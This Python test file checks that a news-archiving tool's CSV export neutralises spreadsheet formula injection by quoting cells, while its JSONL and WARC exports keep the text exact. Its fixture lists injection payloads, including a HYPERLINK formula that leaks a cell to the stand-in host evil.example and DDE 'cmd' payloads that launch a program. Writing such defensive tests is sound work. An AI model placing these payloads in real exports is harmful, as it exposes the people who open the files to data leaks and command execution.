"""CSV export: a headline a spreadsheet would run as a formula is exported as text."""

from __future__ import annotations

import csv
import gzip
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

import storage
from newswatch.cli import app

runner = CliRunner()
# Each title is a formula (or hides one behind whitespace) in Excel, LibreOffice or Sheets.
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
]
HARMLESS = ["Talks resume in Istanbul", "a = b, says the envoy", "'quoted already", "5-3 vote"]


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csv")
    url = f"sqlite:///{folder / 'newswatch.db'}"
    now = datetime(2025, 6, 2, 12, tzinfo=UTC)
    with storage.open_database(url) as db, db.transaction() as session:
        for n, title in enumerate(HOSTILE_TITLES + HARMLESS):
            link = f"https://outlet.example/2025/06/02/story-{n}.html"
            [article_id] = storage.add_candidates(
                session, candidates=[storage.Candidate(url=link)], source_id=None, now=now
            )
            fields = storage.ArticleFields(
                title=title,
                subtitle="-subtitle",
                body=f"=1+{n}\nsecond line",
                authors=("@someone", "Ann Smith"),
            )
            storage.record(
                session,
                article_id=article_id,
                fields=fields,
                snapshot=f"<title>{title}</title>".encode(),
                fetched_at=now,
            )
    path = folder / "newswatch.toml"
    path.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    return path


def export(config: Path, fmt: str, output: Path) -> None:
    result = runner.invoke(
        app, ["export", "--format", fmt, "-o", str(output), "--config", str(config)]
    )
    assert result.exit_code == 0, result.output


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(
    config: Path, tmp_path: Path
) -> None:
    export(config, "csv", tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_bytes().decode("utf-8")  # CRs in cells kept
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    titles = {row["title"] for row in rows}
    assert titles == {"'" + t for t in HOSTILE_TITLES} | set(HARMLESS)
    for row in rows:
        assert row["subtitle"] == "'-subtitle" and row["authors"] == "'@someone; Ann Smith"
        assert row["body"].startswith("'=1+") and row["body"].endswith("\nsecond line")
        assert row["url"].startswith("https://") and row["version"] == "1"
        assert row["words_removed"] == "0"  # numbers are not text: never quoted
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_jsonl_and_warc_keep_the_text_exact(config: Path, tmp_path: Path) -> None:
    export(config, "jsonl", tmp_path / "out.jsonl")
    lines = [
        json.loads(line)
        for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    assert {line["version"]["title"] for line in lines} == set(HOSTILE_TITLES + HARMLESS)
    assert {line["version"]["subtitle"] for line in lines} == {"-subtitle"}
    export(config, "warc", tmp_path / "out.warc.gz")
    archive = gzip.decompress((tmp_path / "out.warc.gz").read_bytes())
    for title in HOSTILE_TITLES:
        assert json.dumps(title, ensure_ascii=False).encode() in archive
